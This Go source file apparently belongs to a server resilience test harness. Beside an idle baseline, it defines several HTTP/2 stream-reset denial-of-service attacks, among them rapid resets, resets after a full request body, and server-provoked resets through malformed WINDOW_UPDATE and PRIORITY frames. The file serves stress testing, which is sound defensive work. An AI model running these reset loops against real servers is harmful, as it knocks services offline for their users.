package main

import (
	"golang.org/x/net/http2"
)

// Streams that are opened and ended at once, by one side or the other.

var noAttack = []attack{{name: "none", play: idle}}

// idle is no attack: what the machine and the honest clients come to alone.
func idle(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	return w.hold()
}

var resetAttacks = []attack{
	{name: "reset-rapid", play: resetRapid},
	{name: "reset-rapid-body", play: func(p *player) error {
		return resetBody(p, pathPut, putMessage("abuse/reset", []byte("v")))
	}},
	{name: "reset-rapid-range", play: func(p *player) error {
		return resetBody(p, pathRange, rangeAllMessage())
	}},
	{name: "reset-made-you", play: resetMadeYou},
	{name: "reset-idle-closed", play: resetClosed},
	{name: "reset-refused", play: resetUnknownPath},
}

// resetRapid opens streams and resets them, before anything is asked for.
func resetRapid(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	for w.ok() {
		w.reset(w.call(pathPut, false), http2.ErrCodeCancel)
	}
	return errOver
}

// resetBody resets streams whose request has been sent as a whole, so that the
// server has begun its work.
func resetBody(p *player, path string, body []byte) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	for w.ok() {
		id := w.call(path, false)
		if err := w.data(id, body, true); err != nil {
			return err
		}
		w.reset(id, http2.ErrCodeCancel)
	}
	return errOver
}

// resetMadeYou has the server do the resetting: whole requests, followed by
// something that is an error of the stream.
func resetMadeYou(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	body := putMessage("abuse/made", []byte("v"))
	for i := 0; w.ok(); i++ {
		id := w.call(pathPut, false)
		if err := w.data(id, body, i%3 != 0); err != nil {
			return err
		}
		switch i % 3 {
		case 0:
			w.grow(id, 0)
		case 1:
			w.grow(id, 1<<31-1)
		case 2:
			w.frame(http2.FramePriority, 0, id, dependsOn(id))
		}
	}
	return errOver
}

// dependsOn is the payload of a PRIORITY frame.
func dependsOn(stream uint32) []byte {
	return []byte{byte(stream >> 24), byte(stream >> 16), byte(stream >> 8),
		byte(stream), 16}
}

// resetClosed resets the same closed stream over and over.
func resetClosed(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	id := w.call(pathPut, false)
	for w.ok() {
		w.reset(id, http2.ErrCodeCancel)
	}
	return errOver
}

// resetUnknownPath makes calls that end at once, because there is no such
// method, and resets them all the same.
func resetUnknownPath(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	for w.ok() {
		w.reset(w.call("/nobody.Knows/Me", true), http2.ErrCodeCancel)
	}
	return errOver
}
